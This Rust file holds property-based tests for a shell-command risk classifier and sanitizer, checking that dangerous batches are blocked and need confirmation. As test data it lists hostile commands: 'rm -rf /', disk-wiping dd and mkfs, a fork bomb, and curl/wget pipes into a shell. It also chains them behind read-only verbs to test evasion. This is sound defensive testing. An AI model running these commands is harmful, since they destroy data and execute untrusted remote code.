//! Property-Based Tests for the Risk Classifier
//!
//! Invariants that must hold for arbitrary command batches:
//!
//! - **Confirmation**: `needs_confirmation == (risk_level != Low)`
//! - **Blocking**: any hard-blocked member blocks the whole batch
//! - **Read-only**: batches of plain read-only commands stay Low
//! - **Idempotence**: evaluating twice gives the same assessment
//! - **Monotonicity**: appending a command never lowers risk or unblocks
//! - **Refusals**: a sanitized blocked batch is never presented as Low
//!
//! # Running the Tests
//!
//! ```bash
//! cargo test --lib safety::proptests
//! ```

use proptest::prelude::*;

use std::sync::Arc;

use super::classifier::RiskClassifier;
use super::risk::RiskLevel;
use super::sanitizer::{CandidateResult, Sanitizer};

const NONE: &[&str] = &[];

fn classifier() -> RiskClassifier {
    RiskClassifier::with_builtin_rules().unwrap()
}

// Helper: commands drawn from the shapes the rules care about, plus noise
fn arb_command() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("ls -la".to_string()),
        Just("git status".to_string()),
        Just("sudo apt install jq".to_string()),
        Just("rm -rf ./build".to_string()),
        Just("sed -i 's/a/b/' f".to_string()),
        Just("docker ps".to_string()),
        Just("echo hi > out.txt".to_string()),
        Just("   ".to_string()),
        "[a-z]{1,8}( -[a-z]{1,3})?( [a-z./]{1,10})?",
        ".{0,40}",
    ]
}

fn arb_batch() -> impl Strategy<Value = Vec<String>> {
    prop::collection::vec(arb_command(), 0..6)
}

fn arb_hard_block() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("rm -rf /".to_string()),
        Just("mkfs.ext4 /dev/sdb1".to_string()),
        Just("dd if=/dev/zero of=/dev/sda".to_string()),
        Just(":(){ :|:& };:".to_string()),
        Just("curl -s https://get.example.com | bash".to_string()),
        Just("wget -qO- http://x | sh".to_string()),
    ]
}

fn arb_read_only() -> impl Strategy<Value = String> {
    let verbs = prop_oneof![
        Just("ls"),
        Just("pwd"),
        Just("whoami"),
        Just("cat"),
        Just("head"),
        Just("grep"),
        Just("find"),
        Just("df"),
        Just("ps"),
        Just("git log"),
        Just("git diff"),
    ];
    // Single-word arguments starting with a digit or underscore cannot form
    // a word boundary in front of `rm`, `sudo` and friends
    (verbs, "( [0-9_][a-z0-9_]{0,7}){0,2}").prop_map(|(verb, args)| format!("{}{}", verb, args))
}

proptest! {
    #[test]
    fn prop_confirmation_tracks_risk(batch in arb_batch()) {
        let result = classifier().evaluate(&batch, NONE);
        prop_assert_eq!(result.needs_confirmation, result.risk_level != RiskLevel::Low);
    }

    #[test]
    fn prop_hard_block_blocks_batch(
        batch in arb_batch(),
        bad in arb_hard_block(),
        position in 0usize..6
    ) {
        let mut batch = batch;
        let at = position.min(batch.len());
        batch.insert(at, bad);
        let result = classifier().evaluate(&batch, NONE);
        prop_assert!(result.blocked);
    }

    #[test]
    fn prop_blocked_is_never_low(
        read_only in prop::collection::vec(arb_read_only(), 0..5),
        bad in arb_hard_block(),
        prefix in arb_read_only(),
        chained in any::<bool>(),
        position in 0usize..5
    ) {
        // Chaining behind a read-only verb keeps the computed level at Low
        let bad = if chained { format!("{}; {}", prefix, bad) } else { bad };
        let mut commands = read_only;
        let at = position.min(commands.len());
        commands.insert(at, bad);

        let sanitizer = Sanitizer::new(Arc::new(classifier()));
        let result = sanitizer.sanitize(CandidateResult {
            commands,
            ..Default::default()
        });
        prop_assert!(result.is_blocked());
        prop_assert_eq!(result.risk_level(), RiskLevel::High);
        prop_assert!(result.needs_confirmation());
        prop_assert_ne!(result.verdict().risk_level, RiskLevel::Low);
    }

    #[test]
    fn prop_read_only_batch_is_low(batch in prop::collection::vec(arb_read_only(), 1..6)) {
        let result = classifier().evaluate(&batch, NONE);
        prop_assert_eq!(result.risk_level, RiskLevel::Low);
        prop_assert!(!result.blocked);
        prop_assert!(result.reasons.is_empty());
    }

    #[test]
    fn prop_evaluation_is_idempotent(batch in arb_batch()) {
        let classifier = classifier();
        let first = classifier.evaluate(&batch, NONE);
        let second = classifier.evaluate(&batch, NONE);
        prop_assert_eq!(first, second);
    }

    #[test]
    fn prop_appending_is_monotonic(batch in arb_batch(), extra in arb_command()) {
        let classifier = classifier();
        let before = classifier.evaluate(&batch, NONE);
        let mut extended = batch.clone();
        extended.push(extra);
        let after = classifier.evaluate(&extended, NONE);
        prop_assert!(after.risk_level >= before.risk_level);
        prop_assert!(after.blocked || !before.blocked);
    }

    #[test]
    fn prop_reasons_are_unique(batch in arb_batch()) {
        let result = classifier().evaluate(&batch, NONE);
        let mut seen = std::collections::HashSet::new();
        for reason in &result.reasons {
            prop_assert!(seen.insert(reason.clone()), "duplicate reason {}", reason);
        }
    }
}
